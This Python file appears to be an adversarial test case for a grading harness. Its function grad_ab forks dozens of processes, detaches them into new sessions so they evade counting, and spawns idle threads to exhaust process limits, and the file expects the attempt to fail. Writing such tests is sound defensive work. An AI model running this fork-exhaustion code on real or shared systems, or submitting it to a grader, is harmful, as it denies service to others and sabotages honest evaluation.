# Attack: forks a crowd of processes in sessions of their own, and starts threads, to leave no room for the next.
# Expect: gradient_flow.grad_ab 0 points, failed
# Shows: nothing
import contextlib
import os
import signal
import threading

CROWD = 50  # each forks once more: together more than a child may have, and few where nobody counts
made = []


def crowd():
    with contextlib.suppress(OSError):
        for number in range(CROWD):
            if os.fork() == 0:
                with contextlib.suppress(OSError):
                    os.setsid()
                    os.fork()
                while True:
                    signal.pause()
            made.append(number)
    with contextlib.suppress(RuntimeError):
        for _ in range(CROWD):
            threading.Thread(target=threading.Event().wait, daemon=True).start()
    print(f"{len(made)} processes, {threading.active_count()} threads", flush=True)


def grad_ab(z):
    if not made:
        crowd()
    return 0.0
